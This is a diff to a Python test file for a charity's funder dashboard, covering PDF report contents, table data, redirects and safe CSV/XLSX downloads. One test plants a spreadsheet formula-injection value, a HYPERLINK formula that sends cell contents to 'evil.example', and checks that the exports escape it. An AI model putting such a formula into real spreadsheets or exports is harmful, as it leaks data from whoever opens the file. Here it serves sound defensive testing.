@@ -3,6 +3,7 @@ the vocabulary only, too few people said in one line; against a real Datasette t
 
 from __future__ import annotations
 
+import re
 import sqlite3
 from collections.abc import Iterator
 from io import BytesIO
@@ -65,8 +66,8 @@ def test_headline_and_figures_are_the_published_rows(conn: sqlite3.Connection) -
     reach = o.figures["reach"]
     assert reach.params == {"period_type": "quarter", "activity": "Lunch club", "area": "All areas"}
     assert [r[-1] for r in reach.rows] == ["2024-Q1"]
-    assert o.figures["who"].link("funders", ".csv") == (
-        "/funders/who.csv?period=2024-Q1&activity=Lunch+club&area=All+areas"
+    assert o.figures["who"].link(".csv") == (
+        "/dashboard/table/who.csv?period=2024-Q1&activity=Lunch+club&area=All+areas"
     )
     assert {r[0] for r in o.figures["activities"].rows} == {"All activities", "Lunch club"}
 
@@ -114,6 +115,17 @@ def test_published_values_in_plain_words() -> None:
     ]
 
 
+def only_greys(data: bytes) -> bool:
+    """Whether every colour the PDF's pages set is a grey (fpdf2 writes ``g``/``G`` for a
+    grey and ``r g b rg``/``RG`` for any other colour)."""
+    colours = []
+    for page in PdfReader(BytesIO(data)).pages:
+        content = page.get_contents()
+        stream = content.get_data().decode("latin-1") if content else ""
+        colours += re.findall(r"([\d.]+) ([\d.]+) ([\d.]+) (?:rg|RG)\b", stream)
+    return all(r == g == b for r, g, b in colours)
+
+
 def pdf_text(data: bytes) -> str:
     return " ".join(page.extract_text() for page in PdfReader(BytesIO(data)).pages)
 
@@ -132,6 +144,16 @@ def test_report_pdf_holds_the_figures(project: Path, tmp_path: Path) -> None:  #
     assert "Test Trust" in text and "2024 quarter 1" in text
     assert f"{shown_value(people)} {shown_value(attendances)}" in text  # the headline row
     assert "Who took part" in text and "Outcomes achieved" in text
+    assert "Circumstances and needs" in text and "Volunteers and the hours they gave" in text
+    # reach over time drawn: each bar's number above it, the period under it
+    words = " ".join(text.split())
+    assert f"too few to show. {shown_value(people)} 2024 Q1 Period People" in words
+    # the map: its legend, and each district named with its people
+    assert "People reached" in text and "A circle's area shows its people." in words
+    for district, place in (("NW1", "Euston"), ("E8", "Dalston")):
+        people = reached(connect(project / "funders.db"), Selection("2024-Q1", area=district))[0]
+        assert f"{district} ({place}): {shown_value(people)}" in words
+    assert only_greys(out.read_bytes())  # reads the same printed in black and white
     small = write_report(project / "funders.db", tmp_path / "small.pdf", period="2024-03")
     assert small.headline is None
     assert TOO_FEW in pdf_text((tmp_path / "small.pdf").read_bytes())
@@ -167,3 +189,93 @@ def test_staff_view_sends_funders_to_the_dashboard_and_staff_to_the_index(
     index = staff.get("/")
     assert index.status_code == 200 and "Funder dashboard" in index.text  # in the menu
     assert staff.get("/dashboard").status_code == 200
+
+
+def test_volunteers_and_circumstances_are_the_published_rows(conn: sqlite3.Connection) -> None:
+    o = build(conn, Selection("2024-Q1"))
+    circumstances = conn.execute(
+        "SELECT characteristic, value, people, percent FROM people_circumstances WHERE "
+        "period = '2024-Q1' AND activity = 'All activities' AND area = 'All areas' "
+        "AND position > 0 ORDER BY position"
+    ).fetchall()
+    in_words = [
+        (c, v.replace("preferred_language", "preferred language"), *n) for c, v, *n in circumstances
+    ]
+    assert o.figures["circumstances"].rows == in_words and circumstances  # the labels, no codes
+    assert {"Religion", "Food needs"} <= {group for group, _ in o.figures["circumstances"].groups()}
+    volunteering = conn.execute(
+        "SELECT r.period, r.shown, v.volunteers, v.hours_volunteered, r.people FROM "
+        "people_reached r LEFT JOIN volunteering v USING (period, activity, area) WHERE "
+        "r.period_type = 'quarter' AND activity = 'All activities' AND area = 'All areas'"
+    ).fetchall()
+    rows = {r[-1]: r[1:3] for r in o.figures["volunteers"].rows}
+    assert rows and set(rows) == {period for period, *_ in volunteering}
+    for period, shown, volunteers, hours, people in volunteering:
+        assert rows[period] == ((volunteers, hours) if shown else (people, None))
+    assert build(conn, Selection("2024-03")).figures["circumstances"].too_few
+
+
+def formula_activity(project: Path, tmp_path: Path) -> Path:  # noqa: F811
+    """A copy of funders.db whose activity is named like a spreadsheet formula, as anyone
+    can name an event in a booking tool."""
+    copy = tmp_path / "funders.db"
+    copy.write_bytes((project / "funders.db").read_bytes())
+    db = sqlite3.connect(copy)
+    with db:
+        for table in ("choices", "people_reached"):
+            column = "value" if table == "choices" else "activity"
+            db.execute(f"UPDATE {table} SET {column} = ? WHERE {column} = 'Lunch club'", (EVIL,))
+        db.execute("UPDATE choices SET label = ? WHERE label = 'Lunch club'", (EVIL,))
+    db.close()
+    return copy
+
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Lunch club")'
+
+
+def test_table_downloads_are_in_words_and_formula_safe(project: Path, tmp_path: Path) -> None:  # noqa: F811
+    from openpyxl import load_workbook
+
+    from harvest.publish.dashboard_web import figure_download
+
+    conn = connect(formula_activity(project, tmp_path))
+    o = build(conn, Selection("2024-Q1"), top=None)
+    conn.close()
+    activities = o.figures["activities"]
+    text = figure_download(activities, "csv").body.decode("utf-8-sig")
+    lines = text.splitlines()
+    assert lines[0] == "Activity,People,Attendances"  # the headings as on the page
+    saved = figure_download(activities, "xlsx").headers["content-disposition"]
+    assert saved == 'attachment; filename="activities-2024-Q1-All-areas.xlsx"'
+    assert any(line.startswith("\"'=HYPERLINK(") for line in lines), text
+    sheet = load_workbook(BytesIO(figure_download(activities, "xlsx").body)).active
+    cells = [row[0] for row in sheet.iter_rows(values_only=True)]
+    assert "'" + EVIL in cells and EVIL not in cells
+    who = figure_download(o.figures["who"], "csv").body.decode("utf-8-sig")
+    assert "fewer than 10" in who and "<10" not in who and "prefer_not_to_say" not in who
+
+
+def test_a_funder_gets_plain_pages_never_datasettes(funder_server: str) -> None:  # noqa: F811
+    funder = login(funder_server, *FUNDER)
+    sent = {
+        "/funders": "/dashboard/tables",
+        "/funders/who_took_part": "/dashboard/tables",
+        "/funders/who?period=2024-Q1&area=": "/dashboard/table/who?period=2024-Q1",
+        "/funders/where_people_live": "/dashboard/table/districts",
+        "/funders/reach?period_type=quarter": "/dashboard/table/reach?period_type=quarter",
+    }
+    for path, target in sent.items():
+        response = funder.get(path)
+        assert (response.status_code, response.headers.get("location")) == (302, target), path
+    bad = funder.get("/funders/reach?period_type=week")
+    assert bad.status_code == 400 and "not one of the choices for period type" in bad.text
+    assert funder.get("/funders/people").status_code == 404
+    assert funder.get("/dashboard/table/people").status_code == 404
+    assert funder.get("/funders/reach.json").status_code == 200  # data for programs stays
+    page = funder.get("/dashboard/table/who", params={"period": "2024-Q1"})
+    assert page.status_code == 200 and "Female" in page.text and "SQL" not in page.text
+    csv_text = funder.get("/dashboard/table/reach.csv", params={"period_type": "quarter"}).text
+    assert csv_text.lstrip("\ufeff").startswith("Period,People,New,Returning,Attendances")
+    staff = login(funder_server, *STAFF)  # staff keep Datasette's own pages
+    query = staff.get("/funders/who")
+    assert query.status_code == 200 and "rows-and-columns" in query.text
